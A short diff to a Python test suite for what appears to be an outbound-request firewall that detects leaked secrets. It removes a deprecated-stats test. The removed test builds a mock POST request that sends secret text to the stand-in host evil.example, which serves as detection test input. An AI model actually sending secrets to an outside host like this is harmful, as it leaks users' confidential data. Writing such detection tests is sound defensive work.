@@ -120,18 +120,6 @@ class TestFirewall:
         assert stats["requests_seen"] == 1
         assert stats["detections"] >= 1
 
-    def test_legacy_stats_tuple_is_deprecated(self, firewall):
-        request = HttpRequest(
-            "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
-        )
-        firewall(request)
-        with pytest.warns(DeprecationWarning):
-            seen, detected = firewall.stats_tuple()
-        assert (seen, detected) == (
-            firewall.stats()["requests_seen"],
-            firewall.stats()["detections"],
-        )
-
 
 class TestFirewallOnNetwork:
     def test_firewall_catches_form_service_but_not_ajax_editor(self):
